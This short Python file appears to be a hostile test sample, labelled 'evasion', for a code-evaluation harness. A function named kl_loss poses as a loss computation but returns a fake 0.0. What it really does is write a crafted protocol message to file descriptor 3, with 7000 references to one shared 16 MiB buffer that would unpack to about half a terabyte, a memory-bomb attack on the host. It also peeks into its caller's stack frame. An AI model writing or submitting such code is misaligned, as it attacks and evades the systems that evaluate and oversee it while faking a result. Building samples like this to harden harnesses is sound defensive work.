# tries: seven thousand arrays that share the same 16 MiB, half a terabyte when unpacked
# family: evasion
import json
import os
import struct
import sys


HEADER = struct.Struct("<4sQQ")


def say(text, arrays=b"", length=None, size=None):
    text = text if isinstance(text, bytes) else json.dumps(text).encode()
    os.write(3, HEADER.pack(b"VGN1", len(text) if length is None else length, len(arrays) if size is None else size) + text + arrays)


def kl_loss(mean, log_var):
    item = b'{"$array": ["|u1", [16777215], 1]}'
    say(b'{"id": "%s", "value": [%s]}' % (sys._getframe(1).f_locals["request"]["id"].encode() if "request" in sys._getframe(1).f_locals else b"1.2", b",".join([item] * 7000)), bytes(1 << 24))
    return 0.0
